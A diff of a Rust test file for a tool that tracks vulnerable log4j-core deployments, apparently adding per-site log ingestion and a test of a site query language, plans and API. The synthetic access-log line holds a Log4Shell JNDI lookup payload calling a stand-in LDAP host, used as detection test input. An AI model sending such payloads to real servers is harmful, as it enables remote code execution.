@@ -29,14 +29,14 @@ fn start(clock: fn() -> i64) -> (World, [String; 3]) {
     (world, people)
 }
 
-/// Reads what is deployed at a site: this version of log4j-core, or nothing.
+/// Reads what is deployed at a site: this version of log4j-core.
 fn deploy(world: &World, site: &str, version: &str) {
     let purl = Purl::new("maven", "org.apache.logging.log4j", "log4j-core", version);
     let component = Component::new(purl, "log4j.jar", Basis::PomProperties, Scope::Installed);
     let sbom = Sbom {
-        components: if version.is_empty() { Vec::new() } else { vec![component] },
+        components: vec![component],
         flaws: Vec::new(),
-        artifact: Some(Digest([version.len().to_be_bytes()[7]; 32])),
+        artifact: Some(Digest([version.as_bytes()[3]; 32])),
         tool: "relight test".into(),
     };
     let (site, observed_at) = (GateKey::new(site).unwrap(), world.engine.now());
@@ -64,9 +64,12 @@ fn the_head_says_how_bad_it_is() {
     std::fs::write(&file, CHANCES).unwrap();
     let options = ImportOptions { now: START, ..ImportOptions::default() };
     import(store, &[file], &options, &mut |_, _| ()).unwrap();
-    let line = "203.0.113.9 - - [14/Jan/2027:12:00:00 +0000] \
-                \"GET /?q=${jndi:ldap://x.test/a} HTTP/1.1\" 200 12 \"-\" \"-\"\n";
     for site in store.sites().unwrap() {
+        let line = format!(
+            "203.0.113.9 - - [14/Jan/2027:12:00:00 +0000] \
+             \"GET /{}?q=${{jndi:ldap://x.test/a}} HTTP/1.1\" 200 12 \"-\" \"-\"\n",
+            site.slug,
+        );
         let feed = Feed { org: site.org, site: Some(site.id), ..Feed::default() };
         world.engine.ingest_log(&feed, std::io::Cursor::new(line)).unwrap();
     }
@@ -136,4 +139,84 @@ fn a_plan_that_waits_says_how_many_agreed() {
     propose(&world, &chief, "beds");
     assert_eq!(waits(&zoe, "en"), "2 plans wait for agreement");
     world.web.stop();
+}
+
+/// Goal: the console means by a query what the command line means, and leads from it to a plan
+/// about exactly what was listed. Method: queries over text, numbers, states and verdicts; what is
+/// none; and who may not propose.
+#[test]
+fn sites_are_found_by_the_query_language_and_taken_into_a_plan() {
+    clock!(now, now_set);
+    now_set(START);
+    let (world, [chief, _, anna]) = start(now);
+    deploy(&world, "care", "2.14.1");
+    let listed = |cookie: &str, query: &str| {
+        let query: String = url(query);
+        let (status, _, page) = world.get(&format!("/sites?lang=en&q={query}"), cookie);
+        assert_eq!(status, 200, "{query}: {page}");
+        let rows = page.split("<tr id=\"site-").skip(1);
+        let slug =
+            |row: &str| row.split("\">").nth(3).unwrap().split('<').next().unwrap().to_owned();
+        (rows.map(slug).collect::<Vec<_>>(), page)
+    };
+    for (query, sites) in [
+        ("org:Hospital", &["care", "beds"][..]),
+        ("org:utility or site:ca*", &["care", "power"]),
+        ("crit<=2", &["power"]),
+        ("edge:east not sector:health", &["power"]),
+        ("edge:none", &[]),
+        ("state!=dark-requested org!=utility", &["beds"]),
+        ("state:Dark-Requested", &["care"]),
+        ("state:dark", &[]),
+        ("affected:CVE-2021-44228", &["care"]),
+        ("affected or crit:1", &["care", "power"]),
+        ("verdict:affected", &["care"]),
+    ] {
+        let (mut rows, page) = listed(&chief, query);
+        let mut wanted: Vec<&str> = sites.to_vec();
+        rows.sort();
+        wanted.sort_unstable();
+        assert_eq!(rows, wanted, "{query}: {page}");
+    }
+    for (query, why) in [
+        ("orgg:x", "unknown key “orgg”. known keys: site, org"),
+        ("crit:9", "criticality goes from 1 to 4"),
+        ("(org:x", "parenthesis without its other half"),
+        ("affected:CVE-1900-1", "CVE-1900-1"),
+    ] {
+        let (rows, page) = listed(&chief, query);
+        assert!(rows.is_empty() && page.contains(why), "{query}: {page}");
+    }
+    // What was listed is named in the plan; without a filter, and for a reader, there is none.
+    let (_, page) = listed(&chief, "org:Hospital");
+    let plan = "/plan?lang=en&#38;action=dark&#38;which=named&#38;incident=CVE-2021-44228\
+                &#38;sites=care+beds";
+    let other = plan.replace("care+beds", "beds+care");
+    assert!(page.contains(plan) || page.contains(&other), "{page}");
+    let href = page.split("data-batch=\"dark\" href=\"").nth(1).unwrap().split('"').next().unwrap();
+    let (_, _, asked) = world.get(&href.replace("&#38;", "&"), &chief);
+    let named = ["care beds", "beds care"].map(|it| format!("{it}</textarea>"));
+    assert!(named.iter().any(|it| asked.contains(it)), "{asked}");
+    assert!(asked.contains("<option value=\"named\" selected>"), "{asked}");
+    for (cookie, query) in [(&chief, ""), (&anna, "org:Hospital"), (&chief, "edge:none")] {
+        assert!(listed(cookie, query).1.contains("<p class=\"acts batch\" hidden>"), "{query}");
+    }
+    let data = world.get("/sites/rows?lang=en&q=orgg:x", &chief).2;
+    assert!(data.contains("unknown key") && data.contains("\"dark\":\"\""), "{data}");
+    // And the API means the same.
+    let api = |query: &str| world.get(&format!("/api/v1/sites?query={}", url(query)), &anna);
+    let (status, _, body) = api("crit<=2 or site:beds");
+    assert!(status == 200 && body.contains("\"total\":2"), "{body}");
+    let (status, _, body) = api("orgg:x");
+    assert!(status == 422 && body.contains("query-unknown-key at byte 0"), "{body}");
+    world.web.stop();
+}
+
+/// A text in an address.
+fn url(text: &str) -> String {
+    let encoded = |byte: u8| match byte {
+        byte if byte.is_ascii_alphanumeric() => char::from(byte).to_string(),
+        byte => format!("%{byte:02X}"),
+    };
+    text.bytes().map(encoded).collect()
 }
